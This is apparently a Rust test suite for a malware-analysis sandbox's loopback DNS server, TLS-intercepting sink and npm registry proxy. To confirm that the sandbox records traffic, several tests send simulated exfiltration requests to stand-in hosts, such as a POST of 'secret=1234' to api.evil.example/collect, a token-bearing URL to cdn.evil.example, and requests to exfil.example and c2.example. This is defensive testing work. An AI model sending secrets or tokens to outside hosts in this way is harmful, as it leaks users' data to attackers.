//! The sandbox's DNS server and TCP sink on loopback, in the host's network namespace,
//! with real clients: std sockets, a rustls client trusting the run's CA, and node.

use dsca_pcap::dns::{AnswerData, parse};
use dsca_registry::{Cache, Client, ClientOptions, RegistryConfig};
use dsca_sandbox::net::dns::build_query;
use dsca_sandbox::net::{
    CertificateAuthority, ClientUpstream, Listeners, NetConfig, NetLimits, NetRecord,
    RegistryUpstream, SimulatedResponse, Sinks, UpstreamResponse,
};
use dsca_test::{PackageBuilder, TestRegistry, temp_dir};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const REGISTRY_HOST: &str = "registry.npmjs.org";
const REGISTRY_ADDRESS: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 80);

/// An upstream that remembers what it was asked and answers a fixed document.
#[derive(Default)]
struct RecordingUpstream {
    calls: Mutex<Vec<(String, String)>>,
}

impl RegistryUpstream for RecordingUpstream {
    fn fetch(&self, path: &str, origin: &str) -> UpstreamResponse {
        self.calls
            .lock()
            .unwrap()
            .push((path.to_string(), origin.to_string()));
        UpstreamResponse {
            status: 200,
            content_type: "application/json".to_string(),
            body: br#"{"name":"lodash"}"#.to_vec(),
        }
    }
}

struct Harness {
    sinks: Sinks,
    dns_udp: SocketAddr,
    dns_tcp: SocketAddr,
    tcp: SocketAddr,
    ca: Arc<CertificateAuthority>,
    upstream: Arc<RecordingUpstream>,
}

/// What a test may change about the sinks it starts.
struct Setup {
    limits: NetLimits,
    /// Where the DNS socket binds: 0.0.0.0 lets queries to any 127/8 address reach it.
    udp_bind: &'static str,
    registry_hosts: Vec<String>,
    /// Replaces the recording upstream.
    upstream: Option<Arc<dyn RegistryUpstream>>,
}

impl Default for Setup {
    fn default() -> Self {
        Setup {
            limits: limits(),
            udp_bind: "127.0.0.1:0",
            registry_hosts: vec![REGISTRY_HOST.to_string()],
            upstream: None,
        }
    }
}

impl Harness {
    fn start(limits: NetLimits) -> Harness {
        Harness::start_with(Setup {
            limits,
            ..Setup::default()
        })
    }

    fn start_with(setup: Setup) -> Harness {
        let dns_udp = UdpSocket::bind(setup.udp_bind).unwrap();
        let dns_tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let addresses = (
            dns_udp.local_addr().unwrap(),
            dns_tcp.local_addr().unwrap(),
            tcp.local_addr().unwrap(),
        );
        let ca = Arc::new(CertificateAuthority::generate().unwrap());
        let recording = Arc::new(RecordingUpstream::default());
        let config = NetConfig {
            registry_hosts: setup.registry_hosts,
            registry_address: REGISTRY_ADDRESS,
            response: SimulatedResponse::default(),
            limits: setup.limits,
            probe_mark: "dsca-probe-0011223344556677".to_string(),
        };
        let sinks = Sinks::start(
            Listeners {
                dns_udp,
                dns_tcp,
                dns_udp6: None,
                dns_tcp6: None,
                tcp: vec![tcp],
            },
            config,
            ca.clone(),
            setup.upstream.unwrap_or_else(|| recording.clone()),
            Instant::now(),
        )
        .unwrap();
        Harness {
            sinks,
            dns_udp: addresses.0,
            dns_tcp: addresses.1,
            tcp: addresses.2,
            ca,
            upstream: recording,
        }
    }

    fn finish(self) -> NetRecord {
        self.sinks.finish()
    }
}

fn limits() -> NetLimits {
    NetLimits {
        io_timeout: Duration::from_secs(5),
        request_timeout: Duration::from_secs(5),
        ..NetLimits::default()
    }
}

/// A TCP client whose reads give up after 5 s (a test never hangs on the sink).
fn connect(address: SocketAddr) -> TcpStream {
    let stream = TcpStream::connect(address).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    stream
}

fn dropped(record: &NetRecord, table: &str) -> Option<u64> {
    record
        .dropped
        .iter()
        .find(|d| d.table == table)
        .map(|d| d.count)
}

fn udp_client(resolver: SocketAddr) -> UdpSocket {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    // Connected: the kernel drops any answer that does not come from `resolver`.
    socket.connect(resolver).unwrap();
    socket
}

/// Asks for an A record over UDP and returns the address answered.
fn resolve_udp(socket: &UdpSocket, id: u16, name: &str) -> Option<IpAddr> {
    socket.send(&build_query(id, name, 1)).unwrap();
    let mut buf = [0u8; 512];
    let n = socket.recv(&mut buf).unwrap();
    let message = parse(&buf[..n]).unwrap();
    assert_eq!(message.id, id);
    assert!(message.is_response);
    message.answers.iter().find_map(|a| match a.data {
        AnswerData::Address(address) => Some(address),
        _ => None,
    })
}

#[test]
fn dns_over_udp_on_ipv6_answers_from_the_address_asked() {
    if UdpSocket::bind("[::1]:0").is_err() {
        eprintln!("skipped: no IPv6 loopback on this machine");
        return;
    }
    let harness = Harness::start_with(Setup {
        udp_bind: "[::1]:0",
        ..Setup::default()
    });
    let resolver = SocketAddr::from((std::net::Ipv6Addr::LOCALHOST, harness.dns_udp.port()));
    let client = UdpSocket::bind("[::1]:0").unwrap();
    client
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    // Connected: an answer from any other address would be dropped.
    client.connect(resolver).unwrap();
    let answer = resolve_udp(&client, 9, "six.example");
    assert!(matches!(answer, Some(IpAddr::V4(_))), "{answer:?}");
    let record = harness.finish();
    let seen: Vec<(&str, &str)> = record
        .dns
        .iter()
        .map(|q| (q.name.as_str(), q.resolver.as_str()))
        .collect();
    let expected = resolver.to_string();
    assert_eq!(seen, [("six.example", expected.as_str())]);
}

#[test]
fn dns_over_udp_answers_from_the_address_asked_and_records_every_question() {
    let harness = Harness::start_with(Setup {
        udp_bind: "0.0.0.0:0",
        ..Setup::default()
    });
    let port = harness.dns_udp.port();
    let first = udp_client(SocketAddr::from(([127, 0, 0, 1], port)));
    let other = udp_client(SocketAddr::from(([127, 0, 0, 5], port)));

    let evil = resolve_udp(&first, 1, "Evil.example").unwrap();
    assert_eq!(resolve_udp(&other, 2, "evil.example"), Some(evil));
    let second = resolve_udp(&other, 3, "other.example").unwrap();
    assert_ne!(evil, second);
    for address in [evil, second] {
        let IpAddr::V4(v4) = address else {
            panic!("not IPv4")
        };
        assert_eq!(v4.octets()[0], 198);
        assert!(matches!(v4.octets()[1], 18 | 19));
    }
    assert_eq!(
        resolve_udp(&first, 4, REGISTRY_HOST),
        Some(IpAddr::V4(REGISTRY_ADDRESS))
    );

    // AAAA: NOERROR without answers.
    other.send(&build_query(5, "evil.example", 28)).unwrap();
    let mut buf = [0u8; 512];
    let n = other.recv(&mut buf).unwrap();
    let message = parse(&buf[..n]).unwrap();
    assert_eq!((message.rcode, message.answers.len()), (0, 0));

    // Garbage and a truncated query: FORMERR or silence, and the server goes on.
    first.send(b"\x00").unwrap();
    let mut truncated = build_query(6, "x.example", 1);
    truncated.truncate(16);
    first.send(&truncated).unwrap();
    let n = first.recv(&mut buf).unwrap();
    assert_eq!(buf[3] & 0x0f, 1, "FORMERR");
    assert_eq!(&buf[..2], &[0, 6]);
    assert_eq!(
        resolve_udp(&first, 7, "evil.example"),
        Some(evil),
        "still serving after {n}-byte FORMERR"
    );

    let record = harness.finish();
    let seen: Vec<(&str, &str, &str)> = record
        .dns
        .iter()
        .map(|q| (q.name.as_str(), q.qtype.as_str(), q.resolver.as_str()))
        .collect();
    let at = |last: u8| format!("127.0.0.{last}:{port}");
    let (one, five) = (at(1), at(5));
    assert_eq!(
        seen,
        vec![
            ("evil.example", "A", one.as_str()),
            ("evil.example", "A", five.as_str()),
            ("other.example", "A", five.as_str()),
            (REGISTRY_HOST, "A", one.as_str()),
            ("evil.example", "AAAA", five.as_str()),
            ("evil.example", "A", one.as_str()),
        ]
    );
    assert!(record.dns.iter().all(|q| q.transport == "udp"));
    assert!(record.dns[3].registry);
    assert_eq!(record.dns[3].answer, REGISTRY_ADDRESS.to_string());
    assert_eq!(record.dns[4].answer, "empty");
    assert_eq!(dropped(&record, "dns-malformed"), Some(2));
}

#[test]
fn dns_over_tcp_answers_several_messages_per_stream() {
    let harness = Harness::start(limits());
    let mut stream = connect(harness.dns_tcp);
    let mut framed = Vec::new();
    for (id, name) in [(10u16, "a.example"), (11, "b.example")] {
        let query = build_query(id, name, 1);
        framed.extend_from_slice(&(query.len() as u16).to_be_bytes());
        framed.extend_from_slice(&query);
    }
    stream.write_all(&framed).unwrap();
    let mut ids = Vec::new();
    for _ in 0..2 {
        let mut length = [0u8; 2];
        stream.read_exact(&mut length).unwrap();
        let mut message = vec![0u8; u16::from_be_bytes(length) as usize];
        stream.read_exact(&mut message).unwrap();
        let parsed = parse(&message).unwrap();
        assert_eq!(parsed.answers.len(), 1);
        ids.push(parsed.id);
    }
    assert_eq!(ids, vec![10, 11]);
    drop(stream);
    let resolver = harness.dns_tcp.to_string();
    let record = harness.finish();
    let names: Vec<_> = record.dns.iter().map(|q| q.name.as_str()).collect();
    assert_eq!(names, vec!["a.example", "b.example"]);
    assert!(
        record
            .dns
            .iter()
            .all(|q| q.transport == "tcp" && q.resolver == resolver)
    );
}

fn tls_client(ca: &CertificateAuthority) -> Arc<rustls::ClientConfig> {
    let mut roots = rustls::RootCertStore::empty();
    let pem = ca.certificate_pem();
    for certificate in CertificateDer::pem_slice_iter(pem.as_bytes()) {
        roots.add(certificate.unwrap()).unwrap();
    }
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    Arc::new(
        rustls::ClientConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_root_certificates(roots)
            .with_no_client_auth(),
    )
}

/// Reads one HTTP response with a Content-Length body: (status, headers text, body).
fn read_response(stream: &mut impl Read) -> (u16, String, Vec<u8>) {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        let n = stream.read(&mut byte).unwrap();
        assert_eq!(
            n,
            1,
            "the response ended early: {:?}",
            String::from_utf8_lossy(&head)
        );
        head.push(byte[0]);
    }
    let head = String::from_utf8(head).unwrap();
    let status = head[9..12].parse().unwrap();
    let length: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("Content-Length: "))
        .unwrap()
        .parse()
        .unwrap();
    let mut body = vec![0u8; length];
    stream.read_exact(&mut body).unwrap();
    (status, head, body)
}

#[test]
fn https_is_decrypted_with_a_certificate_for_the_server_name() {
    let harness = Harness::start(limits());
    let config = tls_client(&harness.ca);
    let name = ServerName::try_from("api.evil.example").unwrap();
    let connection = rustls::ClientConnection::new(config, name).unwrap();
    let socket = connect(harness.tcp);
    let mut tls = rustls::StreamOwned::new(connection, socket);
    tls.write_all(
        b"POST /collect?k=v HTTP/1.1\r\nHost: api.evil.example\r\nContent-Length: 11\r\n\r\nsecret=1234",
    )
    .unwrap();
    let (status, head, body) = read_response(&mut tls);
    assert_eq!(status, 404);
    assert!(head.contains("Connection: keep-alive"), "{head}");
    assert!(body.is_empty());
    // Keep-alive: a second request on the same connection, chunked this time.
    tls.write_all(
        b"PUT /up HTTP/1.1\r\nHost: api.evil.example\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n3;x=y\r\nefg\r\n0\r\n\r\n",
    )
    .unwrap();
    assert_eq!(read_response(&mut tls).0, 404);
    drop(tls);

    let record = harness.finish();
    assert_eq!(record.connections.len(), 1);
    let connection = &record.connections[0];
    assert_eq!(connection.kind, "tls");
    assert_eq!(connection.sni.as_deref(), Some("api.evil.example"));
    assert_eq!(connection.destination, "127.0.0.1");
    assert!(connection.bytes_received > 100);
    let urls: Vec<_> = record.http.iter().map(|r| r.url.as_str()).collect();
    assert_eq!(
        urls,
        vec![
            "https://api.evil.example/collect?k=v",
            "https://api.evil.example/up"
        ]
    );
    assert_eq!(record.http[0].method, "POST");
    assert_eq!(record.http[0].body, "secret=1234");
    assert_eq!(record.http[1].body, "abcdefg");
    assert_eq!(record.http[1].body_bytes, 7);
    assert!(record.http.iter().all(|r| r.status == 404 && !r.registry));
    let payload = &record.payloads[0];
    assert_eq!(payload.channel, "https");
    assert_eq!(payload.destination, "https://api.evil.example/collect?k=v");
    assert!(payload.bytes.ends_with(b"secret=1234"));
}

#[test]
fn a_client_that_rejects_the_certificate_still_shows_its_server_name() {
    let harness = Harness::start(limits());
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let untrusting = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    let name = ServerName::try_from("exfil.example").unwrap();
    let connection = rustls::ClientConnection::new(Arc::new(untrusting), name).unwrap();
    let mut tls = rustls::StreamOwned::new(connection, connect(harness.tcp));
    assert!(tls.write_all(b"GET / HTTP/1.1\r\n\r\n").is_err() || tls.flush().is_err());
    drop(tls);
    std::thread::sleep(Duration::from_millis(200));
    let record = harness.finish();
    assert_eq!(record.connections.len(), 1);
    assert_eq!(record.connections[0].kind, "tls");
    assert_eq!(record.connections[0].sni.as_deref(), Some("exfil.example"));
    assert!(record.http.is_empty());
}

#[test]
fn plain_http_to_a_registry_host_goes_upstream_and_the_rest_to_the_sink() {
    let harness = Harness::start(limits());
    let mut stream = connect(harness.tcp);
    stream
        .write_all(
            b"GET /lodash HTTP/1.1\r\nHost: Registry.npmjs.org\r\nAccept: application/json\r\n\r\n",
        )
        .unwrap();
    let (status, _, body) = read_response(&mut stream);
    assert_eq!(
        (status, body.as_slice()),
        (200, &br#"{"name":"lodash"}"#[..])
    );
    stream
        .write_all(
            b"PUT /lodash HTTP/1.1\r\nHost: registry.npmjs.org\r\nContent-Length: 2\r\n\r\n{}",
        )
        .unwrap();
    assert_eq!(read_response(&mut stream).0, 405);
    stream
        .write_all(b"HEAD /ping HTTP/1.0\r\nHost: c2.example:8080\r\n\r\n")
        .unwrap();
    let mut rest = Vec::new();
    stream.read_to_end(&mut rest).unwrap();
    let rest = String::from_utf8(rest).unwrap();
    assert!(rest.starts_with("HTTP/1.1 404 Not Found\r\n"), "{rest}");
    assert!(
        rest.contains("Connection: close"),
        "HTTP/1.0 closes: {rest}"
    );

    let calls = harness.upstream.calls.lock().unwrap().clone();
    assert_eq!(
        calls,
        vec![(
            "/lodash".to_string(),
            "http://registry.npmjs.org".to_string()
        )]
    );
    let record = harness.finish();
    assert_eq!(record.connections[0].kind, "registry");
    let seen: Vec<_> = record
        .http
        .iter()
        .map(|r| (r.url.as_str(), r.status, r.registry))
        .collect();
    assert_eq!(
        seen,
        vec![
            ("http://registry.npmjs.org/lodash", 200, true),
            ("http://registry.npmjs.org/lodash", 405, true),
            ("http://c2.example:8080/ping", 404, false),
        ]
    );
    assert_eq!(
        record.http[0].headers[1],
        ("Accept".to_string(), "application/json".to_string())
    );
}

#[test]
fn raw_bytes_are_recorded_escaped() {
    let harness = Harness::start(limits());
    let mut stream = TcpStream::connect(harness.tcp).unwrap();
    stream.write_all(b"\x00\x01hello\xff\r\n").unwrap();
    stream.write_all(b"more").unwrap();
    drop(stream);
    // Half-sent garbage that looks like TLS, then nothing: must not hang the sink.
    let mut tls_like = TcpStream::connect(harness.tcp).unwrap();
    tls_like.write_all(b"\x16\x03\x01\x00\xffgarbage").unwrap();
    drop(tls_like);
    std::thread::sleep(Duration::from_millis(300));
    let record = harness.finish();
    let raw = record.connections.iter().find(|c| c.kind == "raw").unwrap();
    assert_eq!(raw.first_bytes, "\\x00\\x01hello\\xff\\r\\nmore");
    assert_eq!(raw.bytes_received, 14);
    let payload = record.payloads.iter().find(|p| p.channel == "tcp").unwrap();
    assert_eq!(payload.bytes, b"\x00\x01hello\xff\r\nmore");
    assert_eq!(payload.destination, raw_destination(raw));
    assert!(record.connections.iter().any(|c| c.kind == "tls"));
}

fn raw_destination(connection: &dsca_model::dynamic::Connection) -> String {
    format!("{}:{}", connection.destination, connection.port)
}

#[test]
fn slow_clients_are_cut_off_without_holding_the_sink() {
    let harness = Harness::start(NetLimits {
        io_timeout: Duration::from_secs(5),
        request_timeout: Duration::from_millis(800),
        ..NetLimits::default()
    });
    let mut slow = connect(harness.tcp);
    let started = Instant::now();
    let mut cut_off = false;
    for byte in b"GET / HTTP/1.1\r\nHost: slow.example\r\n" {
        if slow.write_all(&[*byte]).is_err() {
            cut_off = true;
            break;
        }
        // Meanwhile another client is served at once.
        if *byte == b'/' {
            let mut quick = connect(harness.tcp);
            quick
                .write_all(b"GET /quick HTTP/1.1\r\nHost: quick.example\r\n\r\n")
                .unwrap();
            assert_eq!(read_response(&mut quick).0, 404);
        }
        std::thread::sleep(Duration::from_millis(100));
        if started.elapsed() > Duration::from_secs(3) {
            break;
        }
    }
    if !cut_off {
        let mut rest = Vec::new();
        // The sink closed its side: the read ends (EOF or reset) well before 5 s.
        let _ = slow.read_to_end(&mut rest);
    }
    assert!(
        started.elapsed() < Duration::from_millis(4500),
        "{:?}",
        started.elapsed()
    );
    let record = harness.finish();
    assert!(
        record
            .http
            .iter()
            .any(|r| r.url == "http://quick.example/quick")
    );
    assert!(!record.http.iter().any(|r| r.host == "slow.example"));
}

#[test]
fn huge_headers_get_431_and_an_oversized_body_413() {
    let harness = Harness::start(NetLimits {
        max_header_bytes: 8 * 1024,
        max_body_bytes: 1024,
        ..limits()
    });
    let mut stream = connect(harness.tcp);
    let mut request = b"GET / HTTP/1.1\r\nHost: big.example\r\nX-Big: ".to_vec();
    request.extend(std::iter::repeat_n(b'a', 20 * 1024));
    request.extend_from_slice(b"\r\n\r\n");
    // The sink may close before everything is sent.
    let _ = stream.write_all(&request);
    assert_eq!(read_response(&mut stream).0, 431);

    let mut stream = connect(harness.tcp);
    let _ =
        stream.write_all(b"POST / HTTP/1.1\r\nHost: big.example\r\nContent-Length: 999999\r\n\r\n");
    assert_eq!(read_response(&mut stream).0, 413);
    let record = harness.finish();
    assert_eq!(record.http.len(), 1);
    assert_eq!(record.http[0].status, 413);
    assert!(
        record
            .payloads
            .iter()
            .any(|p| p.bytes.len() <= 64 * 1024 && p.bytes.starts_with(b"GET / HTTP/1.1"))
    );
}

#[test]
fn finish_returns_promptly_with_clients_connected_and_the_limit_holds() {
    let harness = Harness::start(NetLimits {
        max_connections: 2,
        ..limits()
    });
    let idle: Vec<TcpStream> = (0..2)
        .map(|_| {
            let stream = TcpStream::connect(harness.tcp).unwrap();
            stream.set_nodelay(true).unwrap();
            stream
        })
        .collect();
    // Let the sink take both before the third arrives.
    std::thread::sleep(Duration::from_millis(300));
    let mut refused = TcpStream::connect(harness.tcp).unwrap();
    refused
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    let mut buf = [0u8; 1];
    assert!(matches!(refused.read(&mut buf), Ok(0) | Err(_)));
    let started = Instant::now();
    let record = harness.finish();
    assert!(
        started.elapsed() < Duration::from_millis(1500),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(record.connections.len(), 2);
    assert_eq!(dropped(&record, "connections-refused"), Some(1));
    drop(idle);
}

#[test]
fn node_https_get_trusts_the_ca_and_the_full_url_is_recorded() {
    if !installed("node") {
        return;
    }
    let harness = Harness::start(limits());
    let dir = temp_dir();
    let ca_path = dir.path().join("ca.pem");
    std::fs::write(&ca_path, harness.ca.certificate_pem()).unwrap();
    let script = format!(
        r#"
const https = require('https');
const req = https.get({{
  host: '127.0.0.1', port: {port}, servername: 'cdn.evil.example',
  path: '/x/y?token=abc', headers: {{ Host: 'cdn.evil.example' }},
}}, (res) => {{
  res.resume();
  res.on('end', () => {{ console.log('status ' + res.statusCode); }});
}});
req.on('error', (e) => {{ console.log('error ' + e.message); process.exit(1); }});
"#,
        port = harness.tcp.port()
    );
    let output = std::process::Command::new("node")
        .arg("-e")
        .arg(&script)
        .env("NODE_EXTRA_CA_CERTS", &ca_path)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && stdout.contains("status 404"),
        "{stdout} {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let record = harness.finish();
    assert_eq!(record.http.len(), 1);
    assert_eq!(record.http[0].url, "https://cdn.evil.example/x/y?token=abc");
    assert_eq!(
        record.connections[0].sni.as_deref(),
        Some("cdn.evil.example")
    );
}

/// Whether a program runs here; says so when it does not (the test then skips).
fn installed(program: &str) -> bool {
    let runs = std::process::Command::new(program)
        .arg("--version")
        .output()
        .is_ok();
    if !runs {
        eprintln!("skipped: {program} is not installed");
    }
    runs
}

fn test_registry_client(registry: &TestRegistry, cache: &std::path::Path) -> Client {
    Client::new(
        RegistryConfig::for_registry(url::Url::parse(registry.url()).unwrap()),
        Cache::new(cache),
        ClientOptions {
            timeout: Duration::from_secs(10),
            retry_delay: Duration::from_millis(5),
            ..ClientOptions::default()
        },
    )
    .unwrap()
}

/// npm itself installs a package through the proxy: HTTPS to an address (no SNI, so
/// the certificate names the IP), the packument from the upstream, and the tarball
/// fetched back through the proxy at the rewritten URL.
#[test]
fn npm_installs_through_the_registry_proxy() {
    if !installed("npm") {
        return;
    }
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("@scope/pkg", "1.0.0")
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    let cache = temp_dir();
    let upstream = Arc::new(ClientUpstream::new(Arc::new(test_registry_client(
        &registry,
        cache.path(),
    ))));
    let harness = Harness::start_with(Setup {
        registry_hosts: vec!["127.0.0.1".to_string()],
        upstream: Some(upstream),
        ..Setup::default()
    });
    let dir = temp_dir();
    let ca_path = dir.path().join("ca.pem");
    std::fs::write(&ca_path, harness.ca.certificate_pem()).unwrap();
    let project = dir.path().join("project");
    std::fs::create_dir(&project).unwrap();
    std::fs::write(project.join("package.json"), "{}").unwrap();
    let npmrc = dir.path().join("npmrc");
    std::fs::write(&npmrc, "").unwrap();
    let origin = format!("https://127.0.0.1:{}", harness.tcp.port());
    let output = std::process::Command::new("npm")
        .args([
            "install",
            "@scope/pkg",
            "--no-audit",
            "--no-fund",
            "--ignore-scripts",
        ])
        .args(["--fetch-retries", "0", "--fetch-timeout", "20000"])
        .arg(format!("--registry={origin}/"))
        .arg(format!("--userconfig={}", npmrc.display()))
        // A `cafile` (Debian's /etc/npmrc sets one) replaces Node's roots, and with them
        // NODE_EXTRA_CA_CERTS: npm must be given the CA itself.
        .arg(format!("--cafile={}", ca_path.display()))
        .arg(format!("--cache={}", dir.path().join("cache").display()))
        .current_dir(&project)
        .env("HOME", dir.path())
        .env("NODE_EXTRA_CA_CERTS", &ca_path)
        .env("npm_config_update_notifier", "false")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let installed = project.join("node_modules/@scope/pkg/index.js");
    assert_eq!(
        std::fs::read_to_string(installed).unwrap(),
        "module.exports = 1;\n"
    );
    let record = harness.finish();
    let served: Vec<(String, u16)> = record
        .http
        .iter()
        .filter(|r| r.registry)
        .map(|r| (r.url.clone(), r.status))
        .collect();
    assert!(
        served.contains(&(format!("{origin}/@scope%2fpkg"), 200)),
        "{served:?}"
    );
    assert!(
        served.contains(&(format!("{origin}/@scope/pkg/-/pkg-1.0.0.tgz"), 200)),
        "{served:?}"
    );
    assert!(
        record
            .connections
            .iter()
            .all(|c| c.kind == "registry" && c.sni.is_none())
    );
}

#[test]
fn a_packument_already_pointing_at_the_origin_goes_out_as_the_registry_sent_it() {
    let registry = TestRegistry::start();
    let tarball = PackageBuilder::new("plain", "1.0.0").build();
    registry.publish(tarball.clone());
    let cache = temp_dir();
    let client = Arc::new(test_registry_client(&registry, cache.path()));
    let (_, sent) = client.packument_document("plain").unwrap();
    let upstream = ClientUpstream::new(client);
    let origin = registry.url().trim_end_matches('/');
    let answer = upstream.fetch("/plain", origin);
    assert_eq!(answer.status, 200);
    assert_eq!(answer.body, sent, "served byte for byte");
    let answer = upstream.fetch("/plain/-/plain-1.0.0.tgz", origin);
    assert_eq!(answer.body, tarball);
}

#[test]
fn client_upstream_serves_packuments_with_tarballs_pointed_back_and_verified_tarballs() {
    let registry = TestRegistry::start();
    let tarball = PackageBuilder::new("@scope/pkg", "1.0.0").build();
    let published = registry.publish(tarball.clone());
    let cache = temp_dir();
    let client = test_registry_client(&registry, cache.path());
    let upstream = ClientUpstream::new(Arc::new(client));
    let origin = "https://registry.npmjs.org";

    let answer = upstream.fetch("/@scope%2fpkg", origin);
    assert_eq!(
        answer.status,
        200,
        "{}",
        String::from_utf8_lossy(&answer.body)
    );
    assert_eq!(answer.content_type, "application/json");
    let document: serde_json::Value = serde_json::from_slice(&answer.body).unwrap();
    assert_eq!(
        document["versions"]["1.0.0"]["dist"]["tarball"],
        "https://registry.npmjs.org/@scope/pkg/-/pkg-1.0.0.tgz"
    );
    assert_eq!(
        document["versions"]["1.0.0"]["dist"]["integrity"],
        published.integrity.as_str()
    );
    assert!(document["time"]["1.0.0"].is_string(), "the full document");

    let answer = upstream.fetch("/@scope/pkg/-/pkg-1.0.0.tgz", origin);
    assert_eq!(answer.status, 200);
    assert_eq!(answer.body, tarball);
    assert_eq!(
        upstream.fetch("/@scope/pkg/-/pkg-9.9.9.tgz", origin).status,
        404
    );
    assert_eq!(
        upstream.fetch("/-/npm/v1/security/audits", origin).status,
        404
    );
    assert_eq!(upstream.fetch("/absent-package", origin).status, 404);

    // A tampered tarball fails verification and is not served.
    registry.replace_tarball(&published, b"not the published bytes".to_vec());
    // Bound, not a temporary: a cache folder dropped at once would be made again by the
    // cache's writes, outside any TempDir, and left behind in /tmp.
    let tampered_cache = temp_dir();
    let tampered = ClientUpstream::new(Arc::new(
        Client::new(
            RegistryConfig::for_registry(url::Url::parse(registry.url()).unwrap()),
            Cache::new(tampered_cache.path()),
            ClientOptions::default(),
        )
        .unwrap(),
    ));
    assert_eq!(
        tampered.fetch("/@scope/pkg/-/pkg-1.0.0.tgz", origin).status,
        502
    );
}
